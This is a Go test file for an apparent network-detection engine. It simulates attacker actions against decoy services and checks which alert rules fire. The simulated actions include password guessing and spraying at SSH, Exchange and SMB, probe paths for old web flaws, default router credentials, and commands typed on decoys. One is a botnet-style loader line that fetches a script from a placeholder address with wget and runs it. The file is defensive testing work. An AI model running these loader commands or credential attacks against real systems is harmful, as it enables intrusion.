package act

import (
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/lapwing-defence/lapwing/internal/detect/live"
)

// fired are the titles of the shipped rules that the events of the world fire.
func (w *world) fired(t *testing.T) []string {
	t.Helper()
	e, err := live.New(live.Config{})
	if err != nil {
		t.Fatal(err)
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	var out []string
	take := func(list []live.Verdict) {
		for _, v := range list {
			if !slices.Contains(out, v.Rule.Title) {
				out = append(out, v.Rule.Title)
			}
		}
	}
	for i := range w.events {
		take(e.Judge(w.events[i].AppendJSON(nil)))
	}
	take(e.Advance(w.clk.Now().Add(time.Hour)))
	return out
}

// TestActionsAreSeen: what an actor does at the services of a range fires the
// rule that is written for it, through nothing but the services' own events.
func TestActionsAreSeen(t *testing.T) {
	guess := func(n int, user string) (out []Credential) {
		for i := range n {
			out = append(out, Credential{user, "guess" + strings.Repeat("x", i)})
		}
		return out
	}
	spray := func(n int) (out []Credential) {
		for i := range n {
			out = append(out, Credential{"user" + strings.Repeat("a", i), "Winter2026!"})
		}
		return out
	}
	for _, tt := range []struct {
		name string
		do   func(context.Context, *Actor)
		want []string
	}{
		{"passwords guessed at sshd", func(ctx context.Context, a *Actor) {
			a.SSHLogin(ctx, Target{"lin", 22}, Login{Credentials: guess(11, "root"), Delay: time.Second})
		}, []string{"Passwords Guessed at sshd"}},
		{"accounts sprayed at sshd", func(ctx context.Context, a *Actor) {
			a.SSHLogin(ctx, Target{"lin", 22}, Login{Credentials: spray(6), All: true})
		}, []string{"Many Accounts Tried at sshd"}},
		{"spraying Exchange", func(ctx context.Context, a *Actor) {
			a.HTTP(ctx, "password.spray", Target{"lin", 80}, Request{Paths: []string{"/ecp/", "/ews/exchange.asmx", "/oab/", "/rpc/", "/mapi/", "/powershell/", "/autodiscover/x"}, Sprayed: spray(14), Repeat: Repeat{Every: time.Second}})
		}, []string{"Password Spraying Across Exchange Directories", "One Source Walks the Exchange Directories"}},
		{"spraying a file server", func(ctx context.Context, a *Actor) {
			a.SMBLogin(ctx, Target{"win", 445}, Login{Credentials: spray(12), All: true, Delay: time.Second})
		}, []string{"Password Spray Over the Network"}},
		{"a list of paths", func(ctx context.Context, a *Actor) {
			var paths []string
			for i := range 45 {
				paths = append(paths, "/missing"+strings.Repeat("x", i))
			}
			a.HTTP(ctx, "http.path_probe", Target{"lin", 80}, Request{Paths: paths})
		}, []string{"One Source Asks for Many Missing Pages"}},
		{"old flaws", func(ctx context.Context, a *Actor) {
			a.HTTP(ctx, "http.get", Target{"lin", 80}, Request{Paths: []string{"/index.action?method:%23marker", "/dana-na/../marker"}})
		}, []string{"Probe for an Old Flaw That Is Still Used"}},
		{"a VPN over HTTP", func(ctx context.Context, a *Actor) {
			a.HTTP(ctx, "http.get", Target{"lin", 80}, Request{Paths: []string{"/vpnsvc/connect.cgi"}})
		}, []string{"SoftEther VPN Handshake Over HTTP"}},
		{"a name of a VPN", func(ctx context.Context, a *Actor) {
			a.DNSQuery(ctx, Target{"lin", 53}, Ask{Names: []string{"x1.x2.servers.nat-traversal.softether-network.net"}})
		}, []string{"DNS Query for a SoftEther Name at the Resolver"}},
		{"a planted credential", func(ctx context.Context, a *Actor) {
			a.SSHLogin(ctx, Target{"trap", 22}, Login{Credentials: []Credential{{"backup", "t0k"}}, Commands: []string{"id", "cat /srv/README.txt", "wget http://203.0.113.10/marker"}})
		}, []string{"Planted Credential Used on a Decoy", "Login on a Decoy", "Commands on a Decoy", "Download Requested on a Decoy", "Planted File Read on a Decoy"}},
		{"a file left on a decoy", func(ctx context.Context, a *Actor) {
			a.Upload(ctx, Target{"trap", 22}, Marker{Protocol: "sftp", Path: "/tmp/m", Credential: Credential{"backup", "t0k"}, TestFile: true})
		}, []string{"File Left on a Decoy"}},
		{"a botnet on a router", func(ctx context.Context, a *Actor) {
			a.TelnetLogin(ctx, Target{"rt", 23}, Login{
				Credentials: []Credential{{"admin", "admin"}, {"root", "xc3511"}, {"root", "admin"}},
				Commands:    []string{"cd /tmp; wget http://203.0.113.10/marker.sh; chmod 777 marker.sh; sh marker.sh; rm -f marker.sh", "killall telnetd"},
			})
		}, []string{"Loader Line of a Device Botnet Typed on a Decoy", "Remote Management Killed on a Decoy", "Login on a Decoy"}},
		{"an everyday", func(ctx context.Context, a *Actor) {
			a.HTTP(ctx, "http.get", Target{"lin", 80}, Request{Agent: "Mozilla/5.0", Repeat: Repeat{Times: 20, Every: time.Minute}})
			a.IMAPLogin(ctx, Target{"lin", 143}, Login{Credentials: []Credential{anna}}, 5)
			a.SSHLogin(ctx, Target{"lin", 22}, Login{Credentials: []Credential{{"anna", "typo"}, anna}, Commands: []string{"uptime"}})
			a.DNSQuery(ctx, Target{"lin", 53}, Ask{Names: []string{"web01.plant.example"}})
		}, nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld(t)
			tt.do(t.Context(), testActor(w))
			w.stop()
			got := w.fired(t)
			for _, want := range tt.want {
				if !slices.Contains(got, want) {
					t.Errorf("%q did not fire; these did: %q", want, got)
				}
			}
			if tt.want == nil && len(got) > 0 {
				t.Errorf("fired on an everyday: %q", got)
			}
		})
	}
}
